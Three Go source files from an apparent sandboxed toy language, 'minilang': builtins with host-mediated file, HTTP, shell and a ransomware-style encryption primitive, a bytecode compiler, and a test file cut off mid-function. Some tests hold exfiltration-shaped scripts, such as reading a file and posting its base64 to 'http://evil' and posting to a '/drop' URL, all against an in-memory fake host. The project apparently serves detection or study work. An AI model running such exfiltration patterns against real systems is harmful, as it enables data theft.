		out, derr := base64.StdEncoding.DecodeString(s)
		if derr != nil {
			return nil, rte(line, "ValueError", "b64decode: %v", derr)
		}
		return Str(out), nil
	}},

	// encrypt/decrypt implement a deterministic SHA-256 keystream
	// cipher: real enough to produce ~8 bits/byte entropy output (the
	// ransomware signal) while trivially reversible for tests.
	"encrypt": {arity: 2, impl: func(in *rt, line int, args []Value) (Value, error) {
		data, err := argStr(line, "encrypt", args, 0)
		if err != nil {
			return nil, err
		}
		key, err := argStr(line, "encrypt", args, 1)
		if err != nil {
			return nil, err
		}
		return Str(xorKeystream([]byte(data), key)), nil
	}},
	"decrypt": {arity: 2, impl: func(in *rt, line int, args []Value) (Value, error) {
		data, err := argStr(line, "decrypt", args, 0)
		if err != nil {
			return nil, err
		}
		key, err := argStr(line, "decrypt", args, 1)
		if err != nil {
			return nil, err
		}
		return Str(xorKeystream([]byte(data), key)), nil
	}},

	// ---- Host-mediated primitives (the audited attack surface) ----
	"read_file": {arity: 1, impl: func(in *rt, line int, args []Value) (Value, error) {
		p, err := argStr(line, "read_file", args, 0)
		if err != nil {
			return nil, err
		}
		data, rerr := in.host.ReadFile(p)
		if rerr != nil {
			return nil, rerr
		}
		in.BytesRead += int64(len(data))
		return Str(data), nil
	}},
	"write_file": {arity: 2, impl: func(in *rt, line int, args []Value) (Value, error) {
		p, err := argStr(line, "write_file", args, 0)
		if err != nil {
			return nil, err
		}
		data, err := argStr(line, "write_file", args, 1)
		if err != nil {
			return nil, err
		}
		if werr := in.host.WriteFile(p, []byte(data)); werr != nil {
			return nil, werr
		}
		in.BytesWritten += int64(len(data))
		return Nil{}, nil
	}},
	"delete_file": {arity: 1, impl: func(in *rt, line int, args []Value) (Value, error) {
		p, err := argStr(line, "delete_file", args, 0)
		if err != nil {
			return nil, err
		}
		return Nil{}, in.host.DeleteFile(p)
	}},
	"rename_file": {arity: 2, impl: func(in *rt, line int, args []Value) (Value, error) {
		oldP, err := argStr(line, "rename_file", args, 0)
		if err != nil {
			return nil, err
		}
		newP, err := argStr(line, "rename_file", args, 1)
		if err != nil {
			return nil, err
		}
		return Nil{}, in.host.RenameFile(oldP, newP)
	}},
	"list_files": {arity: 1, impl: func(in *rt, line int, args []Value) (Value, error) {
		dir, err := argStr(line, "list_files", args, 0)
		if err != nil {
			return nil, err
		}
		names, lerr := in.host.ListFiles(dir)
		if lerr != nil {
			return nil, lerr
		}
		out := make(List, len(names))
		for i, n := range names {
			out[i] = Str(n)
		}
		return out, nil
	}},
	"http_get": {arity: 1, impl: func(in *rt, line int, args []Value) (Value, error) {
		url, err := argStr(line, "http_get", args, 0)
		if err != nil {
			return nil, err
		}
		status, body, herr := in.host.HTTPRequest("GET", url, nil)
		if herr != nil {
			return nil, herr
		}
		in.NetCalls++
		in.NetBytes += int64(len(body))
		_ = status
		return Str(body), nil
	}},
	"http_post": {arity: 2, impl: func(in *rt, line int, args []Value) (Value, error) {
		url, err := argStr(line, "http_post", args, 0)
		if err != nil {
			return nil, err
		}
		body, err := argStr(line, "http_post", args, 1)
		if err != nil {
			return nil, err
		}
		status, _, herr := in.host.HTTPRequest("POST", url, []byte(body))
		if herr != nil {
			return nil, herr
		}
		in.NetCalls++
		in.NetBytes += int64(len(body))
		return Number(status), nil
	}},
	"shell": {arity: 1, impl: func(in *rt, line int, args []Value) (Value, error) {
		cmd, err := argStr(line, "shell", args, 0)
		if err != nil {
			return nil, err
		}
		out, serr := in.host.Shell(cmd)
		if serr != nil {
			return nil, serr
		}
		in.ShellCalls++
		return Str(out), nil
	}},
	"spin": {arity: 1, impl: func(in *rt, line int, args []Value) (Value, error) {
		ms, err := argNum(line, "spin", args, 0)
		if err != nil {
			return nil, err
		}
		millis := int64(ms)
		if millis < 0 {
			return nil, rte(line, "ValueError", "spin: negative duration")
		}
		if millis > in.limits.MaxSpinMillis {
			millis = in.limits.MaxSpinMillis
		}
		in.host.Spin(millis)
		in.CPUMillis += millis
		return Nil{}, nil
	}},
	"hostname": {arity: 0, impl: func(in *rt, line int, args []Value) (Value, error) {
		return Str(in.host.Hostname()), nil
	}},
	"env": {arity: 1, impl: func(in *rt, line int, args []Value) (Value, error) {
		name, err := argStr(line, "env", args, 0)
		if err != nil {
			return nil, err
		}
		return Str(in.host.Env(name)), nil
	}},
}

// xorKeystream applies a SHA-256 counter-mode keystream derived from
// key. Involutive: applying twice with the same key restores input.
func xorKeystream(data []byte, key string) string {
	out := make([]byte, len(data))
	var block [32]byte
	var counter uint64
	bi := 32 // force initial block
	for i := range data {
		if bi == 32 {
			h := sha256.New()
			h.Write([]byte(key))
			var ctr [8]byte
			for j := 0; j < 8; j++ {
				ctr[j] = byte(counter >> (8 * j))
			}
			h.Write(ctr[:])
			copy(block[:], h.Sum(nil))
			counter++
			bi = 0
		}
		out[i] = data[i] ^ block[bi]
		bi++
	}
	return string(out)
}
