package minilang

// The bytecode compiler lowers a parsed Program to a flat instruction
// stream executed by VM (vm.go). The contract with the tree-walking
// interpreter is exact observable equivalence, including step
// accounting: every instruction carries a cost — the number of
// interpreter ticks the instruction stands for — charged before the
// instruction executes. The interpreter ticks once per statement
// executed and once per expression evaluated (parent before
// children), plus one tick per loop iteration after the body; the
// compiler reproduces that schedule by attaching each tick to the
// first instruction emitted at the same source line after the tick
// point, or to an explicit charge-only step instruction when no such
// instruction follows (branch merges, folded expressions in dead
// positions). Costs only ever batch ticks from a single source line,
// so a budget crossing anywhere inside a batch reports the same line
// the interpreter would.

type op uint8

const (
	opConst op = iota // push consts[a]
	opLoad            // push slots[a]; NameError if undefined
	opStore           // slots[a] = pop
	opPop             // drop top of stack
	opList            // pop a items, push List
	opIndex           // pop index, base; push base[index]
	opNot             // top = !truthy(top)
	opBool            // top = truthy(top) as 0/1
	opAdd             // binary operators: pop right, left; push result
	opSub
	opMul
	opDiv
	opMod
	opEq
	opNe
	opLt
	opGt
	opLe
	opGe
	opJump        // pc = a
	opJumpIfFalse // pop; if !truthy pc = a
	opAndFalse    // pop; if !truthy push 0 and pc = a (short-circuit and)
	opOrTrue      // pop; if truthy push 1 and pc = a (short-circuit or)
	opCall        // pop b args, invoke calls[a], push result
	opIterPrep    // pop iterable, push iterator frame
	opIterNext    // next item -> slots[b], or pop frame and pc = a
	opIterPop     // discard iterator frame (break out of for)
	opBreakTop    // break executed outside any loop: SyntaxError
	opStep        // charge-only: carries ticks with no other effect

	// Superinstructions, emitted by the peephole pass (opt.go). sub
	// holds the underlying arithmetic opcode; cost2 the ticks charged
	// between the left and right operand reads (see peephole for the
	// equivalence argument). The St variants store the result straight
	// into slots[c] instead of pushing it; the Jf variants branch to c
	// when it is falsy. The layout is positional: for each LL/LC/CL
	// base op, St is +3 and Jf is +6 — the peephole pass converts by
	// offset and the VM decodes operand kinds and disposition by
	// dividing out the variant.
	opBinLL    // push slots[a] <sub> slots[b]
	opBinLC    // push slots[a] <sub> consts[b]
	opBinCL    // push consts[a] <sub> slots[b]
	opBinLLSt  // slots[c] = slots[a] <sub> slots[b]
	opBinLCSt  // slots[c] = slots[a] <sub> consts[b]
	opBinCLSt  // slots[c] = consts[a] <sub> slots[b]
	opBinLLJf  // if !truthy(slots[a] <sub> slots[b]) pc = c
	opBinLCJf  // if !truthy(slots[a] <sub> consts[b]) pc = c
	opBinCLJf  // if !truthy(consts[a] <sub> slots[b]) pc = c
	opBinSt    // pop right, left; slots[a] = left <sub> right
	opMove     // slots[b] = slots[a]
	opMove2    // slots[b] = slots[a]; slots[sub] = slots[c] (dst2 < 256)
	opConstStr // slots[b] = consts[a]

	opCount // sentinel: number of opcodes
)

var opNames = [opCount]string{
	opConst:       "const",
	opLoad:        "load",
	opStore:       "store",
	opPop:         "pop",
	opList:        "list",
	opIndex:       "index",
	opNot:         "not",
	opBool:        "bool",
	opAdd:         "add",
	opSub:         "sub",
	opMul:         "mul",
	opDiv:         "div",
	opMod:         "mod",
	opEq:          "eq",
	opNe:          "ne",
	opLt:          "lt",
	opGt:          "gt",
	opLe:          "le",
	opGe:          "ge",
	opJump:        "jump",
	opJumpIfFalse: "jumpfalse",
	opAndFalse:    "andfalse",
	opOrTrue:      "ortrue",
	opCall:        "call",
	opIterPrep:    "iterprep",
	opIterNext:    "iternext",
	opIterPop:     "iterpop",
	opBreakTop:    "breaktop",
	opStep:        "step",
	opBinLL:       "bin.ll",
	opBinLC:       "bin.lc",
	opBinCL:       "bin.cl",
	opBinLLSt:     "bin.ll.st",
	opBinLCSt:     "bin.lc.st",
	opBinCLSt:     "bin.cl.st",
	opBinLLJf:     "bin.ll.jf",
	opBinLCJf:     "bin.lc.jf",
	opBinCLJf:     "bin.cl.jf",
	opBinSt:       "bin.st",
	opMove:        "move",
	opMove2:       "move2",
	opConstStr:    "conststore",
}

var binOps = map[tokKind]op{
	tokPlus:    opAdd,
	tokMinus:   opSub,
	tokStar:    opMul,
	tokSlash:   opDiv,
	tokPercent: opMod,
	tokEq:      opEq,
	tokNeq:     opNe,
	tokLt:      opLt,
	tokGt:      opGt,
	tokLe:      opLe,
	tokGe:      opGe,
}

// opToks maps binary opcodes back to the token the shared applyBin
// slow path expects.
var opToks = [opCount]tokKind{
	opAdd: tokPlus,
	opSub: tokMinus,
	opMul: tokStar,
	opDiv: tokSlash,
	opMod: tokPercent,
	opEq:  tokEq,
	opNe:  tokNeq,
	opLt:  tokLt,
	opGt:  tokGt,
	opLe:  tokLe,
	opGe:  tokGe,
}

// inst is one VM instruction. a and b are operands (jump target,
// slot, constant index, arg count). line is the source line for
// errors; cost is the number of interpreter ticks charged before the
// instruction executes (see the package note above). Fused
// superinstructions additionally carry the underlying arithmetic
// opcode in sub and a second tick batch in cost2, charged between
// their two operand reads.
type inst struct {
	op    op
	sub   op
	a     int32
	b     int32
	c     int32
	line  int32
	line2 int32 // move2 only: source line of the second statement
	cost  int32
	cost2 int32
}

// callRef is a builtin resolved at compile time. fn stays nil for
// unknown names: the interpreter raises NameError only when the call
// executes (after argument side effects), and so does the VM.
type callRef struct {
	name string
	fn   *builtin
}

// chunk is a compiled program.
type chunk struct {
	code   []inst
	consts []cell
	calls  []callRef
}

type loopCtx struct {
	isFor  bool
	breaks []int // opJump indices to patch to the loop's break target
}

type compiler struct {
	vm *VM
	ch *chunk

	// Pending ticks not yet attached to an instruction, and the line
	// they were incurred at.
	pending int32
	pendLn  int32

	loops    []loopCtx
	constIdx map[cell]int32
	callIdx  map[string]int32
}

// compileProgram lowers prog for execution on vm. Variable slots are
// resolved against (and appended to) the VM's persistent slot table,
// so compiled chunks from successive Run calls share a namespace. The
// input AST is never mutated: the folding pass copies on change.
func compileProgram(vm *VM, prog *Program) *chunk {
	c := &compiler{
		vm:       vm,
		ch:       &chunk{},
		constIdx: map[cell]int32{},
		callIdx:  map[string]int32{},
	}
	for _, s := range foldBlock(prog.stmts, vm.limits.MaxValueBytes) {
		c.stmt(s)
	}
	c.flush()
	peephole(c.ch)
	return c.ch
}

// charge records n interpreter ticks at line, to be attached to the
// next instruction emitted at that line.
func (c *compiler) charge(n int32, line int) {
	if c.pending > 0 && c.pendLn != int32(line) {
		c.flush()
	}
	c.pendLn = int32(line)
	c.pending += n
}

// flush materializes pending ticks as a charge-only step instruction.
func (c *compiler) flush() {
	if c.pending > 0 {
		c.ch.code = append(c.ch.code, inst{op: opStep, line: c.pendLn, cost: c.pending})
		c.pending = 0
	}
}

// emit appends an instruction, absorbing pending ticks into its cost
// when they were incurred at the same line (otherwise they flush to a
// step instruction first, preserving charge order).
func (c *compiler) emit(o op, a, b int32, line int) int {
	var cost int32
	if c.pending > 0 {
		if c.pendLn == int32(line) {
			cost = c.pending
			c.pending = 0
		} else {
			c.flush()
		}
	}
	c.ch.code = append(c.ch.code, inst{op: o, a: a, b: b, line: int32(line), cost: cost})
	return len(c.ch.code) - 1
}

// label flushes pending ticks and returns the next instruction index,
// safe to use as a jump target: nothing charged before the label can
// leak past it onto another control path.
func (c *compiler) label() int32 {
	c.flush()
	return int32(len(c.ch.code))
}

func (c *compiler) patch(idx int, target int32) { c.ch.code[idx].a = target }

func (c *compiler) constant(v cell) int32 {
	if i, ok := c.constIdx[v]; ok {
		return i
	}
	i := int32(len(c.ch.consts))
	c.ch.consts = append(c.ch.consts, v)
	c.constIdx[v] = i
	return i
}

func (c *compiler) call(name string) int32 {
	if i, ok := c.callIdx[name]; ok {
		return i
	}
	i := int32(len(c.ch.calls))
	c.ch.calls = append(c.ch.calls, callRef{name: name, fn: builtins[name]})
	c.callIdx[name] = i
	return i
}

func (c *compiler) stmt(s stmtNode) {
	switch t := s.(type) {
	case *assignStmt:
		c.charge(1, t.ln)
		c.expr(t.expr)
		c.emit(opStore, c.vm.slot(t.name), 0, t.ln)
	case *exprStmt:
		c.charge(1, t.ln)
		if f, ok := t.expr.(*foldedExpr); ok {
			// Pure value in statement position: only the ticks matter.
			c.charge(f.cost, f.ln)
			return
		}
		c.expr(t.expr)
		c.emit(opPop, 0, 0, t.ln)
	case *breakStmt:
		c.charge(1, t.ln)
		if len(c.loops) == 0 {
			c.emit(opBreakTop, 0, 0, t.ln)
			return
		}
		lc := &c.loops[len(c.loops)-1]
		lc.breaks = append(lc.breaks, c.emit(opJump, -1, 0, t.ln))
	case *ifStmt:
		c.charge(1, t.ln)
		if f, ok := t.cond.(*foldedExpr); ok {
			// Constant condition: the untaken branch is dead code. The
			// condition's ticks are still charged once.
			c.charge(f.cost, f.ln)
			if truthyCell(f.val) {
				c.block(t.then)
			} else {
				c.block(t.elseBody)
			}
			return
		}
		c.expr(t.cond)
		jf := c.emit(opJumpIfFalse, -1, 0, t.ln)
		c.block(t.then)
		if len(t.elseBody) == 0 {
			c.patch(jf, c.label())
			return
		}
		jend := c.emit(opJump, -1, 0, t.ln)
		c.patch(jf, c.label())
		c.block(t.elseBody)
		c.patch(jend, c.label())
	case *whileStmt:
		c.charge(1, t.ln)
		f, constCond := t.cond.(*foldedExpr)
		if constCond && !truthyCell(f.val) {
			// Condition is constant-false: evaluated once, body never.
			c.charge(f.cost, f.ln)
			return
		}
		c.loops = append(c.loops, loopCtx{})
		head := c.label()
		if constCond {
			// Constant-true condition still costs its ticks every
			// iteration, matching the interpreter's re-evaluation.
			c.charge(f.cost, f.ln)
		} else {
			c.expr(t.cond)
			c.emit(opJumpIfFalse, -1, 0, t.ln)
		}
		condExit := len(c.ch.code) - 1 // only meaningful when !constCond
		c.block(t.body)
		// The interpreter ticks once per completed iteration at the
		// loop's line, before re-testing the condition.
		c.charge(1, t.ln)
		c.emit(opJump, head, 0, t.ln)
		end := c.label()
		if !constCond {
			c.patch(condExit, end)
		}
		for _, bidx := range c.loops[len(c.loops)-1].breaks {
			c.patch(bidx, end)
		}
		c.loops = c.loops[:len(c.loops)-1]
	case *forStmt:
		c.charge(1, t.ln)
		c.expr(t.iter)
		c.emit(opIterPrep, 0, 0, t.ln)
		c.loops = append(c.loops, loopCtx{isFor: true})
		head := c.label()
		next := c.emit(opIterNext, -1, c.vm.slot(t.vari), t.ln)
		c.block(t.body)
		c.charge(1, t.ln) // per-iteration tick, as for while
		c.emit(opJump, head, 0, t.ln)
		// break lands here to discard the iterator frame; natural
		// exhaustion pops it inside opIterNext and jumps past.
		brk := c.label()
		c.emit(opIterPop, 0, 0, t.ln)
		end := c.label()
		c.patch(next, end)
		for _, bidx := range c.loops[len(c.loops)-1].breaks {
			c.patch(bidx, brk)
		}
		c.loops = c.loops[:len(c.loops)-1]
	}
}

func (c *compiler) block(stmts []stmtNode) {
	for _, s := range stmts {
		c.stmt(s)
	}
}

func (c *compiler) expr(e exprNode) {
	switch t := e.(type) {
	case *foldedExpr:
		c.charge(t.cost, t.ln)
		c.emit(opConst, c.constant(t.val), 0, t.ln)
	case *litExpr:
		c.charge(1, t.ln)
		c.emit(opConst, c.constant(unbox(t.val)), 0, t.ln)
	case *varExpr:
		c.charge(1, t.ln)
		c.emit(opLoad, c.vm.slot(t.name), 0, t.ln)
	case *listExpr:
		c.charge(1, t.ln)
		for _, item := range t.items {
			c.expr(item)
		}
		c.emit(opList, int32(len(t.items)), 0, t.ln)
	case *notExpr:
		c.charge(1, t.ln)
		c.expr(t.inner)
		c.emit(opNot, 0, 0, t.ln)
	case *indexExpr:
		c.charge(1, t.ln)
		c.expr(t.base)
		c.expr(t.index)
		c.emit(opIndex, 0, 0, t.ln)
	case *binExpr:
		c.charge(1, t.ln)
		switch t.op {
		case tokKwAnd:
			c.expr(t.left)
			j := c.emit(opAndFalse, -1, 0, t.ln)
			c.expr(t.right)
			c.emit(opBool, 0, 0, t.ln)
			c.patch(j, c.label())
		case tokKwOr:
			c.expr(t.left)
			j := c.emit(opOrTrue, -1, 0, t.ln)
			c.expr(t.right)
			c.emit(opBool, 0, 0, t.ln)
			c.patch(j, c.label())
		default:
			c.expr(t.left)
			c.expr(t.right)
			c.emit(binOps[t.op], 0, 0, t.ln)
		}
	case *callExpr:
		c.charge(1, t.ln)
		for _, a := range t.args {
			c.expr(a)
		}
		c.emit(opCall, c.call(t.name), int32(len(t.args)), t.ln)
	}
}
