package minilang

import (
	"errors"
	"fmt"
	"strings"
	"testing"
	"testing/quick"
)

// memHost is a self-contained Host for interpreter tests.
type memHost struct {
	files    map[string]string
	requests []string
	shells   []string
	spun     int64
	denyNet  bool
}

func newMemHost() *memHost {
	return &memHost{files: map[string]string{}}
}

func (h *memHost) ReadFile(path string) ([]byte, error) {
	data, ok := h.files[path]
	if !ok {
		return nil, fmt.Errorf("no such file: %s", path)
	}
	return []byte(data), nil
}

func (h *memHost) WriteFile(path string, data []byte) error {
	h.files[path] = string(data)
	return nil
}

func (h *memHost) DeleteFile(path string) error {
	if _, ok := h.files[path]; !ok {
		return fmt.Errorf("no such file: %s", path)
	}
	delete(h.files, path)
	return nil
}

func (h *memHost) RenameFile(oldPath, newPath string) error {
	data, ok := h.files[oldPath]
	if !ok {
		return fmt.Errorf("no such file: %s", oldPath)
	}
	delete(h.files, oldPath)
	h.files[newPath] = data
	return nil
}

func (h *memHost) ListFiles(dir string) ([]string, error) {
	var out []string
	for p := range h.files {
		if dir == "" || strings.HasPrefix(p, dir) {
			out = append(out, p)
		}
	}
	// Deterministic ordering for tests.
	for i := 1; i < len(out); i++ {
		for j := i; j > 0 && out[j] < out[j-1]; j-- {
			out[j], out[j-1] = out[j-1], out[j]
		}
	}
	return out, nil
}

func (h *memHost) HTTPRequest(method, url string, body []byte) (int, []byte, error) {
	if h.denyNet {
		return 0, nil, errors.New("egress denied")
	}
	h.requests = append(h.requests, method+" "+url+" "+fmt.Sprint(len(body)))
	return 200, []byte("ok"), nil
}

func (h *memHost) Shell(cmd string) (string, error) {
	h.shells = append(h.shells, cmd)
	return "out\n", nil
}

func (h *memHost) Spin(ms int64) { h.spun += ms }

func (h *memHost) Hostname() string { return "testhost" }

func (h *memHost) Env(name string) string { return map[string]string{"USER": "jovyan"}[name] }

func run(t *testing.T, src string) (*Interp, *memHost, string) {
	t.Helper()
	host := newMemHost()
	in := NewInterp(host, Limits{})
	if err := in.Run(src); err != nil {
		t.Fatalf("run: %v\nsource:\n%s", err, src)
	}
	return in, host, in.TakeStdout()
}

func runErr(t *testing.T, src string) error {
	t.Helper()
	in := NewInterp(newMemHost(), Limits{})
	err := in.Run(src)
	if err == nil {
		t.Fatalf("expected error for:\n%s", src)
	}
	return err
}

func TestArithmetic(t *testing.T) {
	_, _, out := run(t, `print(1 + 2 * 3, 10 / 4, 10 % 3, 2 - 5)`)
	if out != "7 2.5 1 -3\n" {
		t.Fatalf("out = %q", out)
	}
}

func TestStringOps(t *testing.T) {
	_, _, out := run(t, `s = "abc" + "def"
print(s, len(s), upper(s), s[0], s[-1])`)
	if out != "abcdef 6 ABCDEF a f\n" {
		t.Fatalf("out = %q", out)
	}
}

func TestStringRepetition(t *testing.T) {
	_, _, out := run(t, `print("ab" * 3)`)
	if out != "ababab\n" {
		t.Fatalf("out = %q", out)
	}
}

func TestComparisons(t *testing.T) {
	_, _, out := run(t, `print(1 < 2, 2 <= 2, 3 > 4, "a" == "a", "a" != "b", "abc" < "abd")`)
	if out != "1 1 0 1 1 1\n" {
		t.Fatalf("out = %q", out)
	}
}

func TestLogicalShortCircuit(t *testing.T) {
	// The right side would fail (NameError) if evaluated.
	_, _, out := run(t, `print(0 and missing_var, 1 or missing_var)`)
	if out != "0 1\n" {
		t.Fatalf("out = %q", out)
	}
}

func TestNot(t *testing.T) {
	_, _, out := run(t, `print(not 0, not 1, not "", not "x")`)
	if out != "1 0 1 0\n" {
		t.Fatalf("out = %q", out)
	}
}

func TestIfElse(t *testing.T) {
	_, _, out := run(t, `x = 5
if x > 3
    print("big")
else
    print("small")
end
if x > 10
    print("huge")
end`)
	if out != "big\n" {
		t.Fatalf("out = %q", out)
	}
}

func TestWhileAndBreak(t *testing.T) {
	_, _, out := run(t, `i = 0
while 1
    i = i + 1
    if i >= 5
        break
    end
end
print(i)`)
	if out != "5\n" {
		t.Fatalf("out = %q", out)
	}
}

func TestForOverList(t *testing.T) {
	_, _, out := run(t, `total = 0
for x in [1, 2, 3, 4]
    total = total + x
end
print(total)`)
	if out != "10\n" {
		t.Fatalf("out = %q", out)
	}
}

func TestForOverRange(t *testing.T) {
	_, _, out := run(t, `s = 0
for i in range(5)
    s = s + i
end
print(s)`)
	if out != "10\n" {
		t.Fatalf("out = %q", out)
	}
}

func TestForOverStringLines(t *testing.T) {
	_, _, out := run(t, `n = 0
for line in "a\nb\nc"
    n = n + 1
end
print(n)`)
	if out != "3\n" {
		t.Fatalf("out = %q", out)
	}
}

func TestSplitJoin(t *testing.T) {
	_, _, out := run(t, `parts = split("a,b,c", ",")
print(len(parts), parts[1], join(parts, "-"))`)
	if out != "3 b a-b-c\n" {
		t.Fatalf("out = %q", out)
	}
}

func TestListOps(t *testing.T) {
	_, _, out := run(t, `l = [1, 2]
l = append(l, 3)
l2 = l + [4]
print(len(l), len(l2), l2[3])`)
	if out != "3 4 4\n" {
		t.Fatalf("out = %q", out)
	}
}

func TestFileBuiltins(t *testing.T) {
	host := newMemHost()
	host.files["data/a.txt"] = "hello"
	in := NewInterp(host, Limits{})
	err := in.Run(`data = read_file("data/a.txt")
write_file("data/b.txt", data + " world")
rename_file("data/b.txt", "data/c.txt")
print(read_file("data/c.txt"))
delete_file("data/a.txt")
print(len(list_files("data")))`)
	if err != nil {
		t.Fatal(err)
	}
	out := in.TakeStdout()
	if out != "hello world\n1\n" {
		t.Fatalf("out = %q", out)
	}
	if in.BytesRead == 0 || in.BytesWritten == 0 {
		t.Fatal("usage counters not updated")
	}
}

func TestEncryptDecryptInvolution(t *testing.T) {
	_, _, out := run(t, `data = "sensitive model weights 0123456789"
enc = encrypt(data, "key")
print(enc == data)
print(decrypt(enc, "key") == data)
print(decrypt(enc, "wrong") == data)`)
	if out != "0\n1\n0\n" {
		t.Fatalf("out = %q", out)
	}
}

func TestEncryptProducesHighEntropy(t *testing.T) {
	host := newMemHost()
	in := NewInterp(host, Limits{})
	plain := strings.Repeat("science data rows and columns ", 200)
	host.files["d.csv"] = plain
	if err := in.Run(`write_file("d.enc", encrypt(read_file("d.csv"), "k"))`); err != nil {
		t.Fatal(err)
	}
	enc := host.files["d.enc"]
	if len(enc) != len(plain) {
		t.Fatalf("length changed: %d vs %d", len(enc), len(plain))
	}
	// Count distinct bytes as a cheap entropy proxy.
	distinct := map[byte]bool{}
	for i := 0; i < len(enc); i++ {
		distinct[enc[i]] = true
	}
	if len(distinct) < 200 {
		t.Fatalf("ciphertext has only %d distinct bytes", len(distinct))
	}
}

func TestXorKeystreamProperty(t *testing.T) {
	f := func(data []byte, key string) bool {
		enc := xorKeystream(data, key)
		dec := xorKeystream([]byte(enc), key)
		return dec == string(data)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestNetworkBuiltins(t *testing.T) {
	host := newMemHost()
	in := NewInterp(host, Limits{})
	err := in.Run(`status = http_post("http://x.example/drop", "payload")
body = http_get("http://x.example/check")
print(status, body)`)
	if err != nil {
		t.Fatal(err)
	}
	if out := in.TakeStdout(); out != "200 ok\n" {
		t.Fatalf("out = %q", out)
	}
	if len(host.requests) != 2 || in.NetCalls != 2 {
		t.Fatalf("requests = %v netcalls = %d", host.requests, in.NetCalls)
	}
}

func TestNetworkDeniedSurfacesError(t *testing.T) {
	host := newMemHost()
	host.denyNet = true
	in := NewInterp(host, Limits{})
	err := in.Run(`http_post("http://x/", "data")`)
	var rt *RuntimeError
	if !errors.As(err, &rt) || rt.EName != "OSError" {
		t.Fatalf("err = %v", err)
	}
}

func TestShellAndSpin(t *testing.T) {
	host := newMemHost()
	in := NewInterp(host, Limits{})
	if err := in.Run(`print(shell("whoami"))
spin(5000)`); err != nil {
		t.Fatal(err)
	}
	if len(host.shells) != 1 || host.spun != 5000 || in.CPUMillis != 5000 || in.ShellCalls != 1 {
		t.Fatalf("shells=%v spun=%d cpu=%d", host.shells, host.spun, in.CPUMillis)
	}
}

func TestSpinCapped(t *testing.T) {
	host := newMemHost()
	in := NewInterp(host, Limits{MaxSpinMillis: 1000})
	if err := in.Run(`spin(999999)`); err != nil {
		t.Fatal(err)
	}
	if host.spun != 1000 {
		t.Fatalf("spun = %d", host.spun)
	}
}

func TestHostnameEnv(t *testing.T) {
	_, _, out := run(t, `print(hostname(), env("USER"), env("MISSING"))`)
	if out != "testhost jovyan \n" {
		t.Fatalf("out = %q", out)
	}
}

func TestHashAndB64(t *testing.T) {
	_, _, out := run(t, `print(sha256("abc"))
print(b64encode("hi"), b64decode("aGk="))`)
	want := "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad\naGk= hi\n"
	if out != want {
		t.Fatalf("out = %q", out)
	}
}

func TestVariablesPersistAcrossRuns(t *testing.T) {
	in := NewInterp(newMemHost(), Limits{})
	if err := in.Run(`x = 41`); err != nil {
		t.Fatal(err)
	}
	if err := in.Run(`print(x + 1)`); err != nil {
		t.Fatal(err)
	}
	if out := in.TakeStdout(); out != "42\n" {
		t.Fatalf("out = %q", out)
	}
}

func TestErrors(t *testing.T) {
	cases := []struct {
		src   string
		ename string
	}{
		{`print(nope)`, "NameError"},
		{`nope()`, "NameError"},
		{`print(1 / 0)`, "ZeroDivisionError"},
		{`print([1][5])`, "IndexError"},
		{`print("a" + 1)`, "TypeError"},
		{`for x in 5
print(x)
end`, "TypeError"},
		{`read_file("missing")`, "OSError"},
		{`num("not a number")`, "ValueError"},
		{`len(1)`, "TypeError"},
		{`print("a" < 1)`, "TypeError"},
	}
	for _, c := range cases {
		err := runErr(t, c.src)
		var rt *RuntimeError
		if !errors.As(err, &rt) {
			t.Errorf("%q: err = %T %v", c.src, err, err)
			continue
		}
		if rt.EName != c.ename {
			t.Errorf("%q: ename = %s, want %s", c.src, rt.EName, c.ename)
		}
	}
}

func TestSyntaxErrors(t *testing.T) {
	for _, src := range []string{
		`x = `,
		`if 1`,
		`print("unterminated`,
		`x = 1 +`,
		`end`,
		`for x [1]`,
		`@`,
	} {
		in := NewInterp(newMemHost(), Limits{})
		err := in.Run(src)
		if err == nil {
			t.Errorf("%q: accepted", src)
			continue
		}
		var se *SyntaxError
		var rt *RuntimeError
		if !errors.As(err, &se) && !errors.As(err, &rt) {
			t.Errorf("%q: err type %T", src, err)
		}
	}
}

func TestInfiniteLoopBudget(t *testing.T) {
	in := NewInterp(newMemHost(), Limits{MaxSteps: 10000})
	err := in.Run(`while 1
x = 1
end`)
	var rt *RuntimeError
	if !errors.As(err, &rt) || rt.EName != "ResourceError" {
		t.Fatalf("err = %v", err)
	}
}

func TestOutputBudget(t *testing.T) {
	in := NewInterp(newMemHost(), Limits{MaxOutputBytes: 100})
	err := in.Run(`while 1
print("aaaaaaaaaaaaaaaaaaaaaaaa")
end`)
	var rt *RuntimeError
	if !errors.As(err, &rt) || rt.EName != "ResourceError" {
		t.Fatalf("err = %v", err)
	}
}

func TestStringSizeBudget(t *testing.T) {
	in := NewInterp(newMemHost(), Limits{MaxValueBytes: 1 << 16})
	err := in.Run(`s = "x"
while 1
s = s + s
end`)
	var rt *RuntimeError
	if !errors.As(err, &rt) || rt.EName != "ResourceError" {
		t.Fatalf("err = %v", err)
	}
}

func TestCommentsAndSemicolons(t *testing.T) {
	_, _, out := run(t, `# leading comment
x = 1; y = 2  # trailing comment
print(x + y)`)
	if out != "3\n" {
		t.Fatalf("out = %q", out)
	}
}

func TestProgramCallsRecorded(t *testing.T) {
	prog, err := Parse(`data = read_file("f")
http_post("http://evil", b64encode(data))`)
	if err != nil {
		t.Fatal(err)
	}
	joined := strings.Join(prog.Calls, ",")
	for _, want := range []string{"read_file", "http_post", "b64encode"} {
		if !strings.Contains(joined, want) {
			t.Errorf("calls = %v missing %s", prog.Calls, want)
		}
	}
}

func TestBuiltinNamesSorted(t *testing.T) {
	names := BuiltinNames()
	if len(names) < 20 {
		t.Fatalf("only %d builtins", len(names))
	}
	for i := 1; i < len(names); i++ {
		if names[i] < names[i-1] {
			t.Fatal("names not sorted")
		}
	}
}

func TestFormatValues(t *testing.T) {
	cases := map[string]Value{
		"nil":    Nil{},
		"42":     Number(42),
		"4.5":    Number(4.5),
		"x":      Str("x"),
		"[1, a]": List{Number(1), Str("a")},
	}
	for want, v := range cases {
		if got := Format(v); got != want {
			t.Errorf("Format(%v) = %q want %q", v, got, want)
		}
	}
}

func TestTruthy(t *testing.T) {
	if Truthy(Nil{}) || Truthy(Number(0)) || Truthy(Str("")) || Truthy(List{}) {
		t.Fatal("falsy values truthy")
	}
	if !Truthy(Number(1)) || !Truthy(Str("x")) || !Truthy(List{Number(1)}) {
		t.Fatal("truthy values falsy")
	}
}

func TestNegativeNumbers(t *testing.T) {
	_, _, out := run(t, `x = -5
